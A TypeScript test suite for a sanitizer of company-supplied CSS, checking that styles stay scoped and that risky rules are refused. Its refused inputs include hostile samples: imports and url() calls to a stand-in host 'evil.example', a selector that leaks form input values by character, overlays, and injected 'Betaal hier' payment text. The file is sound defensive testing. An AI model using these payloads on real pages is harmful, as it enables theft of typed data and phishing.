import fc from 'fast-check'
import { parse, walk } from 'css-tree'
import { describe, expect, it } from 'vitest'
import { STYLE_SCOPE, checkStyle } from '../../src/relations/companies/style.rules.ts'

const words = (text: string) => fc.constantFrom(...text.split(' '))
/** Anything at all: hardly ever a style. */
const soup = fc
  .array(
    words('a { } : ; color red url( ) @import @media print "x" & + > , .b #c -9px /* */ \\ ! * ~ var(--x) --x ::after'),
    {
      maxLength: 40,
    },
  )
  .map((pieces) => pieces.join(' '))
/** Now and then one of these, mostly nothing. */
const seldom = (texts: string) =>
  fc.oneof({ arbitrary: fc.constant(''), weight: 8 }, { arbitrary: words(texts), weight: 1 })
/** Something like a style, about half of which passes: rules with an odd thing here and there. */
const declaration = fc
  .tuple(
    words('color background --x'),
    words('red #123456 rgb(1,2,3)'),
    seldom(';position:fixed ;color:url(x) ;margin:-9px ;--y:url(x) ;color:"x"'),
  )
  .map(([property, value, odd]) => `${property}:${value}${odd}`)
const rule = fc
  .tuple(seldom('> + ~ &'), words('a .b #c * body a,b a>b'), seldom('::after :is(b) ,>b ,+b ,&'), declaration)
  .map(([before, on, after, look]) => `${before}${on}${after}{${look}}`)
const style = fc
  .tuple(seldom('@import"x"; <!-- } /*'), rule, seldom('} { ; */ \\ url( @font-face{}'), rule, fc.boolean())
  .map(
    ([before, one, between, other, inMedia]) =>
      `${before}${one}${between}\n${inMedia ? `@media print{${other}}` : other}`,
  )
const typed = fc.oneof({ arbitrary: style, weight: 9 }, { arbitrary: soup, weight: 1 })

/** Whether a style loads nothing and every selector of it looks below the scope. */
function isSound(css: string): boolean {
  let sound = true
  walk(parse(css, { parseCustomProperty: true }), (node) => {
    if (node.type === 'Url' || node.type === 'Raw') sound = false
    if (node.type === 'Atrule' && node.name !== 'media') sound = false
    if (node.type !== 'Rule' || node.prelude.type !== 'SelectorList') return
    for (const each of node.prelude.children) {
      const [scope, below] = each.type === 'Selector' ? each.children.toArray() : []
      if (scope?.type !== 'ClassSelector' || scope.name !== STYLE_SCOPE) sound = false
      if (below?.type !== 'Combinator' || below.name !== ' ') sound = false
    }
  })
  return sound
}

describe('the style of a company', () => {
  it('is limited to the content of the page, every selector of it', () => {
    expect(
      checkStyle('h1, .btn:hover > b { color: #123456 } @media print { :is(body, html) { color: red } }').css,
    ).toBe('.own-style h1,.own-style .btn:hover>b{color:#123456}@media print{.own-style :is(body,html){color:red}}')
  })

  it.each([
    ['loads a style sheet', '@import "//evil.example/x.css"; a { color: red }'],
    ['loads a font', '@font-face { font-family: x; src: url(x) }'],
    ['loads a picture', 'a { background: url(//evil.example/?x) }'],
    ['loads a picture in capitals', 'a { background-image: URL("x") }'],
    ['loads a picture by an escape', String.raw`a { background-image: \75rl(x) }`],
    ['loads one of several pictures', 'a { background-image: image-set("x" 1x) }'],
    ['loads a picture through a variable', 'a { --x: url(y); color: red }'],
    ['reads a form by its values', 'input[value^="a"] { background: url(//evil.example/a) }'],
    ['covers the page', 'a { position: fixed }'],
    ['hides something', 'a { display: none }'],
    ['moves something away', 'a { margin: -400px }'],
    ['moves something away through a variable', 'a { --m: -400px; margin: var(--m) }'],
    ['makes giant letters', 'a { font-size: 900px }'],
    ['makes letters giant level by level', '* { font-size: 4em }'],
    ['makes letters giant step by step', '* { font-size: larger }'],
    ['makes letters vanish', 'a { font-size: 0 }'],
    ['makes letters vanish through a variable', 'a { --s: 0px; font-size: var(--s) }'],
    ['draws lines over each other', 'a { line-height: 0 }'],
    ['draws lines over each other in the short form', 'a { font: 16px/0 serif }'],
    ['draws letters over each other', 'a { letter-spacing: -20px }'],
    ['adds something before in the old way', 'a:before { background: red }'],
    ['computes a size', 'a { margin: calc(-1 * 40px) }'],
    ['adds text', 'a::before { content: "Betaal hier" }'],
    ['reaches beside its scope', '~ nav { color: red }'],
    ['reaches around its scope', '&, & + nav { color: red }'],
    ['nests a rule', 'a { body & { color: red } }'],
    ['closes the scope', '} body { color: red'],
    ['hides in a comment of HTML', '<!-- body { color: red } -->'],
    ['asks for what nobody knows', 'a:foo(b, body) { color: red }'],
    ['animates', '@keyframes x { from { color: red } }'],
    ['means nothing', 'a { color: rood }'],
  ])('that %s is refused', (_what, css) => {
    const checked = checkStyle(css)
    expect(checked.problems.length).toBeGreaterThan(0)
    expect(checked.css).toBe('')
  })

  it('may have a semicolon too many', () => {
    expect(checkStyle('a { color: red;; }')).toEqual({ css: '.own-style a{color:red}', problems: [] })
  })

  it('may choose letters that can be read', () => {
    const css = 'a{font:bold 18px/1.4 Georgia,serif;letter-spacing:-.5px}b{font-size:1.25rem;line-height:1.2}'
    expect(checkStyle(css)).toEqual({ css: css.replaceAll(/([ab])\{/g, '.own-style $1{'), problems: [] })
  })

  it('is judged by itself: what somebody typed before does not keep the server busy for ever', () => {
    const before = '> .b ~ ! * ~ var(--x) + -9px \n a & #c */ -9px ; #c } @media #c var(--x) -9px * { color'
    const next = '{ */ */ -9px red ~ * + } : }   print : + > #c url('
    for (const css of [before, next]) expect(checkStyle(css).problems.length).toBeGreaterThan(0)
  })

  it('tells in which line the mistake is', () => {
    expect(checkStyle('a { color: red }\n\nb { position: fixed }').problems).toEqual([
      'Regel 3: position is niet toegestaan.',
    ])
  })

  it('never lets anything else through, whatever is typed', () => {
    let accepted = 0
    fc.assert(
      fc.property(typed, (source) => {
        const { css, problems } = checkStyle(source)
        if (problems.length > 0) return css === ''
        if (css !== '') accepted += 1
        return isSound(css)
      }),
      { numRuns: 200 },
    )
    // A property that only ever sees refused texts would say nothing.
    expect(accepted).toBeGreaterThan(20)
  })
})
